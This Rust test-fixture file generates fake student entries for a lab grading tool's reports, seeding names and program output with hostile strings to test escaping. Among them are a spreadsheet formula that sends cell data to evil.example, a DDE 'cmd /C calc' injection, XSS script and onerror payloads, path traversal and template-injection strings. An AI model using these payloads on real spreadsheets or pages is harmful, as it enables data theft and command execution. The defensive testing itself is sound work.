//! Entries made up for the tests of the reports: a class as it might be, with what hostile students would write.
#![allow(dead_code, missing_docs)]

use grade::entry::{CheckResult, Entry, Tier, Verdict};
use grade::report::LabInfo;
use harness::chart::{self, TextOptions};
use harness::failure::Outcome;
use harness::record::Likely;
use harness::timeline::{Event, Fate, Stream, What};
use lab_cli::course::{Course, Lab};

/// Names that somebody chose to do harm, or that only look so.
pub(crate) const HOSTILE: [&str; 12] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "../../x",
    "..\\..\\x",
    "O'Neill, \"Jo\"",
    "\u{202e}gpj.exe",
    "🦀👩\u{200d}🔬",
    "Леся Українка",
    "a/b",
    "a:b",
    "@SUM(1+1)*cmd|' /C calc'!A0",
];

/// What a hostile program prints.
pub(crate) const PRINTED: &str = "</code></pre></svg></style></details><script>document.title='owned'</script><img src=http://127.0.0.1:9/x onerror=document.title='owned'>\x1b[2J\x1b]0;owned\x07 {{ 7*7 }} ````\n# heading\n";

pub(crate) fn labs(names: &[&str]) -> Vec<Lab> {
    let course = Course::find().unwrap();
    course.labs.into_iter().filter(|lab| names.contains(&lab.name.as_str())).collect()
}

pub(crate) fn infos(labs: &[Lab]) -> Vec<LabInfo<'_>> {
    labs.iter().map(LabInfo::from).collect()
}

/// An entry in which all went well.
pub(crate) fn right(student: &str, lab: &Lab) -> Entry {
    let check = |entry: &harness::manifest::CheckEntry| CheckResult {
        name: entry.name.clone(),
        task: entry.task,
        points: entry.points,
        outcome: Outcome::Passed,
        runs: Vec::new(),
        expected: String::new(),
        seen: String::new(),
        mistake: None,
        read: String::new(),
        explanation: String::new(),
        timeline: Vec::new(),
    };
    Entry {
        student: student.into(),
        lab: lab.name.clone(),
        verdict: Verdict::Passed,
        reason: String::new(),
        details: String::new(),
        checks: lab.manifest.checks.iter().map(check).collect(),
        submitted: Some(1_763_300_000),
        sha256: format!("sum of {student}"),
        judged_by: "suite".into(),
        seed: 4711,
        tier: Tier::Bubblewrap,
        began_ms: 1,
        took_ms: 400,
        retries: 0,
    }
}

/// Lets a check fail, with everything that there is to tell.
pub(crate) fn fail(entry: &mut Entry, index: usize, outcome: Outcome, printed: &str) {
    let (lab, seed) = (entry.lab.clone(), entry.seed);
    let check = &mut entry.checks[index];
    check.outcome = outcome;
    check.runs = vec![outcome, outcome];
    check.expected = "the reply to `ping`".into();
    check.seen = format!("server printed `{printed}` and waits for ever");
    check.mistake = Some(Likely {
        name: format!("answers-once-{}", index % 5),
        says: "The server answers the first request and then ends, or stops receiving. A server has no last request: receive, answer and \
               begin again in a `loop`."
            .into(),
    });
    check.read = format!("{lab}.md#the-server-answers-for-ever");
    check.timeline = timeline(printed, 12 + index % 5 * 12);
    check.explanation = format!(
        "{lab}, task {}: A title ({} points)\n\nExpected  {}\nSeen      {}\nIdea      A server has no last request. It answers, and\n          is ready for the next one.\n\n{}picture: /home/prof/target/labs/timeline.svg\n\nReplay    LAB_SEED={seed} cargo test -p {lab} {}",
        check.task,
        check.points,
        check.expected,
        check.seen,
        chart::text(&check.timeline, &TextOptions { last: Some(30), ..TextOptions::default() }),
        check.name
    );
    entry.verdict = Verdict::Failed;
    entry.reason = "1 check failed".into();
}

fn timeline(printed: &str, rows: usize) -> Vec<Event> {
    let start = What::Start { who: "server".into(), command: vec!["lab01-server".into(), "--bind".into()] };
    let line = What::Line { who: "server".into(), stream: Stream::Out, text: printed.into() };
    let mut all = vec![start, line];
    for number in 0..rows {
        let (from, to) =
            if number % 2 == 0 { ("the check's REQ", "server") } else { ("server", "the check's REQ") };
        let frames = vec![format!("{number}: {}", if number == 3 { printed } else { "ping" }).into()];
        let fate = if number % 9 == 8 { Fate::Corrupted } else { Fate::Passed };
        all.push(What::Message { link: None, from: from.into(), to: to.into(), frames, fate });
    }
    all.push(What::Exit { who: "server".into(), code: Some(101), signal: None });
    let event = |(seq, what)| Event { seq, at_us: seq * 1700, what };
    (0..).zip(all).map(event).collect()
}

/// A class in which everything happens that can.
pub(crate) fn class(students: usize, labs: &[Lab]) -> Vec<Entry> {
    let mut random = fastrand::Rng::with_seed(7);
    let mut entries = Vec::new();
    let firsts = [
        "Ada",
        "Alan",
        "Barbara",
        "Леся",
        "Edsger",
        "Frances",
        "Grace",
        "Hedy",
        "Іван",
        "Jean",
        "Katherine",
        "Leslie",
    ];
    let lasts = [
        "Lovelace",
        "Turing",
        "Liskov",
        "Українка",
        "Dijkstra",
        "Allen",
        "Hopper",
        "Lamarr",
        "Франко",
        "Bartik",
    ];
    for number in 0..students {
        let name = match HOSTILE.get(number) {
            Some(name) => (*name).to_string(),
            None => format!("{} {} {number}", firsts[number % 12], lasts[number * 7 % 10]),
        };
        for lab in labs {
            entries.push(work(&mut random, &name, number, lab));
        }
    }
    entries
}

fn work(random: &mut fastrand::Rng, name: &str, number: usize, lab: &Lab) -> Entry {
    let mut entry = right(name, lab);
    entry.seed = random.u64(..1_000_000);
    entry.submitted = Some(1_763_300_000 + random.i64(-300_000..300_000));
    let nothing = |entry: &mut Entry, verdict: Verdict, reason: &str| {
        entry.verdict = verdict;
        entry.reason = reason.into();
        entry.checks.clear();
    };
    match random.u32(0..40) {
        0..18 => {}
        18 => nothing(
            &mut entry,
            Verdict::Rejected,
            "`labs/lab01/src/lib.rs` is a symbolic link, and only regular files are taken",
        ),
        19 => {
            nothing(&mut entry, Verdict::DoesNotBuild, "the compiler refuses it");
            entry.details = format!(
                "error[E0425]: cannot find value `{PRINTED}` in this scope\n --> src/bin/server.rs:14:5\n"
            );
        }
        20 => {
            nothing(&mut entry, Verdict::Missing, "");
            entry.submitted = None;
            entry.sha256.clear();
        }
        21 => nothing(
            &mut entry,
            Verdict::InfrastructureError,
            "the box could not be made: ENOSPC, the disk is full",
        ),
        22 => {
            entry.verdict = Verdict::TimedOut;
            entry.reason = "the 60 s for one submission were over".into();
            for check in entry.checks.iter_mut().skip(5) {
                check.outcome = Outcome::NotRun;
            }
        }
        23..27 => {
            let from = random.usize(1..entry.checks.len());
            for check in entry.checks.iter_mut().skip(from) {
                check.outcome = Outcome::Todo;
                check.explanation = "task 3 is still to do, in labs/lab01/src/endpoint.rs:14".into();
            }
            entry.verdict = Verdict::Failed;
            entry.reason = "task 3 is still to do".into();
        }
        _ => {
            let printed = if number < HOSTILE.len() { PRINTED } else { "bound tcp://127.0.0.1:5555" };
            for _ in 0..random.usize(1..5) {
                let outcome = if random.bool() { Outcome::Failed } else { Outcome::Hung };
                let index = random.usize(..entry.checks.len());
                fail(&mut entry, index, outcome, printed);
                if random.u32(..8) == 0 {
                    entry.checks[index].runs = vec![outcome, Outcome::Passed];
                }
            }
            let failed = entry.checks.iter().filter(|check| !check.outcome.is_green()).count();
            entry.reason = format!("{failed} of {} checks failed", entry.checks.len());
            if random.u32(..6) == 0 {
                entry.sha256 = "copied".into();
            }
        }
    }
    entry
}
